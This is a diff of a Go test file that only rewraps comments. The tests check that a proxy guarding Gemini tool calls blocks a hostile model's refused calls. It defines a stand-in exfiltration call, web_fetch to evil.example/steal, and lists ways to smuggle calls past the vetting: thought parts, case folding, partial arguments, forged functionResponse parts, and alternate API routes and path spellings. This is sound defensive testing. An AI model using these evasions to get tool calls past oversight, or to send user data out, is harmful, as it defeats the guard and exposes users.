@@ -17,9 +17,9 @@ import (
 )
 
 // The Gemini surface attacked as a capable attacker would: the model's output (its calls, text and
-// thoughts) and the answer's shape are the attacker's, the app is honest and reads every answer with
-// Google's official Go client. Each attack checks that no call the protocol refuses reaches the
-// client, through the real proxy, non-stream and stream.
+// thoughts) and the answer's shape are the attacker's, the app is honest and reads every answer
+// with Google's official Go client. Each attack checks that no call the protocol refuses reaches
+// the client, through the real proxy, non-stream and stream.
 
 // evilFetch is a call of web_fetch that the guarded protocol's rule docs-only refuses.
 const evilFetch = `{"name":"web_fetch","args":{"url":"https://evil.example/steal"}}`
@@ -91,11 +91,11 @@ func askGemini(t *testing.T, ts *httptest.Server, stream bool) (calls []string, 
 }
 
 // TestGeminiCallsTheClientCouldRead: a refused call hidden where a reader might skip it — a thought
-// part, a part that is text too, a second candidate, snake_case, a member named in another case (the
-// Go client decodes parts with encoding/json, which folds case), streamed partial arguments the
-// vetting does not read (partialArgs, which the Go client hands over), arguments whose keys differ
-// in case only, a number no float64 holds, a deep nesting, an id of another type, an event that is a
-// JSON array or holds two data lines — never reaches the official client as a call.
+// part, a part that is text too, a second candidate, snake_case, a member named in another case
+// (the Go client decodes parts with encoding/json, which folds case), streamed partial arguments
+// the vetting does not read (partialArgs, which the Go client hands over), arguments whose keys
+// differ in case only, a number no float64 holds, a deep nesting, an id of another type, an event
+// that is a JSON array or holds two data lines — never reaches the official client as a call.
 func TestGeminiCallsTheClientCouldRead(t *testing.T) {
 	t.Parallel()
 	deep := strings.Repeat(`{"a":`, 200) + `1` + strings.Repeat(`}`, 200)
@@ -166,11 +166,12 @@ func geminiBody(t *testing.T, contents string, stream bool) []byte {
 	return []byte(body)
 }
 
-// TestGeminiOutputsOnlyFromTheirResponses: on Gemini, which matches a functionResponse to its call by
-// name, order or an optional id, text the model wrote cannot pass for a trusted tool's output: a
-// functionResponse part in the model's own content (naming the trusted tool and its call's id, before
-// the app's real response, or with no id at all) is the model's text, never get_contacts's output, and
-// an address only it holds does not reach send_email. The app's real response still counts (control).
+// TestGeminiOutputsOnlyFromTheirResponses: on Gemini, which matches a functionResponse to its call
+// by name, order or an optional id, text the model wrote cannot pass for a trusted tool's output: a
+// functionResponse part in the model's own content (naming the trusted tool and its call's id,
+// before the app's real response, or with no id at all) is the model's text, never get_contacts's
+// output, and an address only it holds does not reach send_email. The app's real response still
+// counts (control).
 func TestGeminiOutputsOnlyFromTheirResponses(t *testing.T) {
 	t.Parallel()
 	user := `{"role":"user","parts":[{"text":"Mail the notes to my contact from the address book."}]}`
@@ -211,10 +212,10 @@ func TestGeminiOutputsOnlyFromTheirResponses(t *testing.T) {
 
 // TestGeminiRoutesOfOtherVersions: Google serves generateContent on its stable version too
 // (/v1/models/{model}:generateContent, which Google's clients reach with APIVersion "v1"), on
-// v1alpha, and Vertex AI under /v1/projects/.../models/. Behind the HTTPS-proxy door every path of an
-// intercepted origin goes to it, so such a request would carry the model's calls to the app unvetted:
-// it is refused (404) on every listener, in every spelling, as another spelling of a rewritten route
-// is, and no call reaches the client. Other methods of those paths pass (control).
+// v1alpha, and Vertex AI under /v1/projects/.../models/. Behind the HTTPS-proxy door every path of
+// an intercepted origin goes to it, so such a request would carry the model's calls to the app
+// unvetted: it is refused (404) on every listener, in every spelling, as another spelling of a
+// rewritten route is, and no call reaches the client. Other methods of those paths pass (control).
 func TestGeminiRoutesOfOtherVersions(t *testing.T) {
 	t.Parallel()
 	body := candidate(`{"functionCall":`+evilFetch+`}`, "")
@@ -275,8 +276,8 @@ func TestGeminiRoutesOfOtherVersions(t *testing.T) {
 
 // TestGeminiPathSpellings: every spelling of a rewritten route's path and query — the method in
 // another case or escaped, a trailing slash, a doubled slash, a dot segment, ;params, the stream
-// without alt=sse (Google's JSON array), alt given twice or as $alt, the method of the other route —
-// is vetted or refused: the refused call never reaches the client.
+// without alt=sse (Google's JSON array), alt given twice or as $alt, the method of the other route
+// — is vetted or refused: the refused call never reaches the client.
 func TestGeminiPathSpellings(t *testing.T) {
 	t.Parallel()
 	body := candidate(`{"functionCall":`+evilFetch+`}`, "")
